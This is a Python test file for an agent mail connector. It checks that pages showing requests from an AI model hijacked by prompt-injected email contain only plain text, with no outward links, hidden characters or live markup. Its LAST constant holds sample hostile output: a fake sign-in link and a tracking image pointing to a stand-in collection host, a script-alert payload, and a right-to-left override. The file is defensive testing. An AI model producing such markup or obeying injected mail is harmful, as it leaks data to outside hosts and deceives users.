"""What a person is shown of a hijacked model's wishes: words. Nothing leads away, nothing hides, nothing is markup."""

import re
from html import unescape

import pytest
from django.http import HttpResponse

from agents.connectors.mail.words import UNSEEN
from tests.agents.hijacked import attacked
from tests.agents.injections.index import ALL
from tests.agents.injections.wishes import Injection
from tests.agents.scripted import on
from tests.cast import as_

pytestmark = pytest.mark.django_db
__all__ = ["on"]
WITH_LINKS = [one for one in ALL if one.file[:2] in {"09", "13", "14", "24", "25", "26", "27"}]
LAST = (
    '<a href="https://collect.example/x">Sign in</a> <img src="https://collect.example/p.png?KESTREL"> '
    "[Sign in](https://collect.example/x) <script>alert(1)</script> \u202elacol\u202c"
)


def leads_away(page: HttpResponse) -> list[str]:
    """Addresses of another host in attributes."""
    assert page.status_code == 200
    attributes = re.findall(
        r"""\s(?:href|src|action|hx-\w+|content)=["']([^"']*)["']""", page.content.decode()
    )
    return [one for one in attributes if re.search(r"//|mailto:|javascript:|data:", unescape(one))]


@pytest.mark.parametrize("mail", WITH_LINKS, ids=str)
def test_an_ask_leads_nowhere(cast, on, mail: Injection):
    with attacked(cast, on, mail) as victim:
        victim.run()
    pages = [as_(cast.mia).get(ask.get_absolute_url()) for ask in victim.asks()]
    assert pages
    assert [leads_away(page) for page in pages] == [[]] * len(pages)


@pytest.mark.parametrize("mail", [one for one in ALL if one.file[:2] in {"09", "10", "24"}], ids=str)
def test_an_ask_hides_nothing(cast, on, mail: Injection):
    with attacked(cast, on, mail) as victim:
        victim.run()
    for ask in victim.asks():
        page = as_(cast.mia).get(ask.get_absolute_url()).content.decode()
        found = re.search(f".*[{UNSEEN}].*", page)
        assert not found, found.group()


def test_the_last_words_of_a_hijacked_model_are_text(cast, on):
    with attacked(cast, on, ALL[0]) as victim:
        victim.model.last = LAST
        victim.refuse_all()
    page = as_(cast.mia).get(victim.task.get_absolute_url())
    assert leads_away(page) == []
    body = page.content.decode()
    assert "Sign in" in body
    assert "<script>alert" not in body
    assert "<img" not in body
